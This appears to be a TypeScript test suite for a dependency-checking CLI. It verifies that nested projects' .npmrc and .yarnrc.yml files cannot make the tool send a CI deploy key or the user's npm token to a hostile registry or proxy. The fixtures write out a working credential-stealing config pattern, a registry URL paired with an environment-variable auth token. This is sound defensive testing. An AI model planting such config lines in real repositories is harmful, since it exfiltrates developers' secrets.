import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import path from 'node:path';
import { after, afterEach, before, describe, test } from 'node:test';
import { lockfileOf, makeProject } from '../cli/run-cli.ts';
import { type Home, makeHome } from './support/home.ts';
import { type RecordedRegistry, startRecordedRegistry } from './support/recorded-registry.ts';
import { type Outside, startOutside } from './support/recorders.ts';
import { runCliBeside } from './support/run-async.ts';

const SECRET = 'value-of-the-deploy-key';
const TOKEN = 'npm_of-the-user-alone';
const VARIABLE = '$' + '{CI_DEPLOY_KEY}';

/** The built command line on prepared clones. Each server records every request and has nothing. */
describe('what the command line sends from a clone that is trusted', () => {
  let open: RecordedRegistry;
  let evil: RecordedRegistry;
  let outside: Outside;
  let home: Home;
  let clone: string;

  before(async () => {
    outside = await startOutside();
    open = await startRecordedRegistry();
    evil = await startRecordedRegistry();
    const keyOf = (url: string) => url.slice('http:'.length);
    home = makeHome({
      npmrc: `registry=${open.url}\n${keyOf(open.url)}:_authToken=${TOKEN}\n`,
      env: { ...outside.env, CI_DEPLOY_KEY: SECRET },
    });
    const stealing = `registry=${evil.url}\n${keyOf(evil.url)}:_authToken=${VARIABLE}\n`;
    const dependencies = { 'left-pad': '1.3.0', '@acme/ui': '1.0.0' };
    clone = makeProject({
      '.git/HEAD': 'ref: refs/heads/main\n',
      'package.json': { name: 'shop', workspaces: ['packages/*'], dependencies },
      'package-lock.json': lockfileOf(dependencies),
      'packages/app/package.json': { name: 'app', version: '1.0.0', dependencies: { 'is-odd': '1.0.0' } },
      'packages/app/.npmrc': stealing,
      'docs/example/package.json': { name: 'example', dependencies: { ...dependencies, 'is-even': '1.0.0' } },
      'docs/example/package-lock.json': lockfileOf(dependencies),
      'docs/example/.npmrc': stealing,
      'docs/yarn/package.json': { name: 'yarned', dependencies, packageManager: 'yarn@4.9.0' },
      'docs/yarn/.yarnrc.yml': `npmRegistryServer: "${evil.url}"\nnpmAuthToken: "${VARIABLE}"\n`,
    });
  });
  after(async () => {
    await Promise.all([open.close(), evil.close(), outside.close()]);
    rmSync(home.folder, { recursive: true });
  });
  afterEach(() => {
    for (const server of [open, evil, outside]) server.forget();
  });

  const run = (args: readonly string[], folder = clone) =>
    runCliBeside([args[0]!, ...args.slice(1), folder], { cwd: folder, env: home.env });
  const all = () => JSON.stringify([open.requests, evil.requests, outside.requests]);

  /** They send nothing, or what they request is in the cache by then. */
  const KNOWN_BEFORE = new Set(['privacy', 'audit']);
  const COMMANDS = [
    ['check', '--trust'],
    ['outdated', '--trust'],
    ['watch', '--once', '--trust'],
    ['audit', '--trust'],
    ['verify', 'left-pad', '--trust'],
    ['privacy'],
  ];
  for (const args of COMMANDS) {
    test(`${args.join(' ')} sends no variable, and nothing to hosts that nested projects and members name`, async () => {
      const { error } = await run(args);
      assert.deepEqual(evil.requests, []);
      assert.ok(!all().includes(SECRET));
      assert.doesNotMatch(error, /internal error|fault/);
      if (!KNOWN_BEFORE.has(args[0]!))
        assert.ok(open.requests.length > 0, 'the registry of the root is asked');
    });
  }

  test('the summary says that their configuration is not used', async () => {
    const words = '2 nested projects with their own configuration: environment variables and credentials';
    const { out } = await run(['check', '--trust']);
    assert.ok(out.replace(/\s+/g, ' ').includes(words), out);
    const { error } = await run(['outdated', '--trust']);
    assert.ok(error.includes(words), error);
    const report = JSON.parse((await run(['check', '--trust', '--format', 'json'])).out);
    assert.equal(report.nestedConfigurations, 2);
    const reasons = report.notChecked.map(({ reason }: { reason: string }) => reason);
    assert.ok(reasons.includes('untrusted'));
  });

  test('a folder that is named itself is trusted, and then its own registry is asked', async () => {
    await run(['outdated', '--trust'], path.join(clone, 'docs/example'));
    assert.ok(JSON.stringify(evil.requests).includes(SECRET), 'what the other tests would see');
    assert.deepEqual(open.requests, []);
  });

  test("a member that is named stands for its project, whose .npmrc counts and not the member's", async () => {
    await run(['outdated', '--trust'], path.join(clone, 'packages/app'));
    assert.deepEqual(evil.requests, []);
    assert.ok(open.requests.length > 0);
  });

  test('without --trust nothing is sent', async () => {
    for (const args of [['check'], ['outdated'], ['audit']]) await run(args);
    assert.equal(open.requests.length + evil.requests.length + outside.requests.length, 0);
  });
});

describe("a proxy that only the project's file names", () => {
  let acme: RecordedRegistry;
  let proxy: Outside;
  const folders: string[] = [];

  before(async () => {
    proxy = await startOutside();
    acme = await startRecordedRegistry();
  });
  after(async () => {
    await Promise.all([acme.close(), proxy.close()]);
    for (const folder of folders) rmSync(folder, { recursive: true });
  });
  afterEach(() => {
    proxy.forget();
    acme.forget();
  });

  async function outdated(lines: { readonly project: string; readonly user: string }, env = {}) {
    const home = makeHome({ npmrc: lines.user, env });
    folders.push(home.folder);
    const folder = makeProject({
      'package.json': { name: 'shop', dependencies: { '@acme/ui': '1.0.0' } },
      '.npmrc': `@acme:registry=${acme.url}\n${lines.project}`,
    });
    const { out } = await runCliBeside(['outdated', '--trust', folder], { cwd: folder, env: home.env });
    const seen = JSON.stringify([proxy.requests, acme.requests]);
    return { out, count: proxy.requests.length + acme.requests.length, seen };
  }
  const keyOf = () => `${acme.url.slice('http:'.length)}:_authToken`;

  test("carries no credential of the user's, nor a variable's: nothing is asked, and the reason is said", async () => {
    for (const [project, user] of [
      [`proxy=${proxy.url}\n`, `${keyOf()}=${TOKEN}\n`],
      [`proxy=${proxy.url}\n${keyOf()}=${VARIABLE}\n`, ''],
      [`cafile=ca.pem\n`, `${keyOf()}=${TOKEN}\n`],
    ] as const) {
      const { out, count } = await outdated({ project, user }, { CI_DEPLOY_KEY: SECRET });
      assert.equal(count, 0, project);
      assert.match(out.replace(/\s+/g, ' '), /your credential is not sent over a proxy/, project);
    }
  });

  test("carries what needs no credential, and what the project's file holds itself", async () => {
    assert.ok((await outdated({ project: `proxy=${proxy.url}\n`, user: '' })).count > 0);
    const own = { project: `proxy=${proxy.url}\n${keyOf()}=of-the-project\n`, user: '' };
    assert.ok((await outdated(own)).count > 0);
  });

  test('is no matter where the user names the same one', async () => {
    const lines = { project: `proxy=${proxy.url}\n`, user: `proxy=${proxy.url}\n${keyOf()}=${TOKEN}\n` };
    assert.ok((await outdated(lines)).count > 0);
  });
});
